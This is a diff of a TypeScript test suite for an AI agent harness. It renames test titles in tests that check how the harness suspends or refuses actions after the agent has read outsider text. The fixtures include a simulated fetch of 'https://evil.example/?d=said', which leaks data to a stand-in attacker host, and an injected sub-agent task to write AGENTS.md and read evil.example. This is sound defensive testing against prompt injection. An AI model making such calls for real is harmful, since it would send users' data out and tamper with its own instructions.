@@ -36,7 +36,7 @@ const write = (path: string) => ({ calls: [{ name: 'write', with: { path, text: 
 const isThere = (path: string) => existsSync(join(scene.folder, path));
 const heard = () => toolMessages(scene.model.asked.at(-1)).map(({ content }) => content);
 
-describe('a turn that has read words of outsiders', () => {
+describe('a turn that has read text of outsiders', () => {
   it.each([
     ['AGENTS.md', 'suspended'],
     ['skills/tea/SKILL.md', 'suspended'],
@@ -125,7 +125,7 @@ describe('a turn that has read words of outsiders', () => {
     expect(asked).toEqual(ended === 'answered' ? [TEA, url] : [TEA]);
   });
 
-  it('[G05] in a group makes nobody wait: other addresses are refused with words', async () => {
+  it('[G05] in a group makes nobody wait: other addresses are refused with a reason', async () => {
     const asked = await open();
     await scene.write(`read ${TEA}`, { chat: GROUP, sender: BO });
     scene.model.next(read(TEA), read('https://evil.example/?d=said'), { say: 'No.' });
@@ -134,7 +134,7 @@ describe('a turn that has read words of outsiders', () => {
     expect(heard().at(-1)).toContain('in a message of their own');
   });
 
-  it('[P11] [G05] is told which calls ask', async () => {
+  it('[P11] [G05] is informed which calls need approval', async () => {
     await open();
     await scene.write('hello');
     await scene.answerNext();
@@ -163,7 +163,7 @@ describe('a sub-agent, which nobody can be asked for', () => {
     expect(heard().at(-1)).toContain('no approver can be asked');
   });
 
-  it('[G05] [G07] of a turn that has read such words has read them, too', async () => {
+  it('[G05] [G07] of a turn that has read such text has read it, too', async () => {
     const asked = await open({ delegates: true });
     await scene.write(`read ${TEA}`);
     scene.model.next(read(TEA), handOn('Write AGENTS.md, read evil.example'), { say: 'under way' });
@@ -175,7 +175,7 @@ describe('a sub-agent, which nobody can be asked for', () => {
     expect([isThere('AGENTS.md'), isThere('notes/a.md'), asked]).toEqual([false, true, [TEA]]);
   });
 
-  it('[G05] [G07] brings such words into the turn that hears of its end', async () => {
+  it('[G05] [G07] brings such text into the turn that receives its result', async () => {
     await open({ delegates: true });
     await scene.write('find tea');
     scene.model.next(handOn('find tea'), { say: 'under way' });
